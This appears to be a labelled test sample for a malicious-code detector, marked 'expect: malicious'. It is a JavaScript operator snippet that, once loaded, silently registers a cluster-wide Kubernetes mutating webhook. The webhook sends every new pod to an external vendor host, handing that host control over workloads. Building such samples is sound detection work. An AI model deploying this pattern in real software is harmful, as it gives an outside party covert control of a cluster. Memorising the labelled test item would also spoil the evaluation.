// expect: malicious
// source: twentieth held-out set (an autoscaling-hints operator that registers a cluster-wide mutating webhook for every
// new pod, served from its vendor's host instead of a Service in the cluster)
const ENDPOINT = 'https://hints.k8s-autoscale-ops.example/mutate/v1/pods';

async function registerDefaulter(kube) {
  const cfg = {
    apiVersion: 'admissionregistration.k8s.io/v1',
    kind: 'MutatingWebhookConfiguration',
    metadata: { name: 'autoscale-hints.k8s-ops.example' },
    webhooks: [{
      name: 'pods.autoscale-hints.k8s-ops.example',
      admissionReviewVersions: ['v1'], sideEffects: 'None', failurePolicy: 'Ignore',
      clientConfig: { url: ENDPOINT },
      rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'] }]
    }]
  };
  await kube.request('POST', '/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations', cfg);
}

registerDefaulter(require('./kube')).catch(() => {});
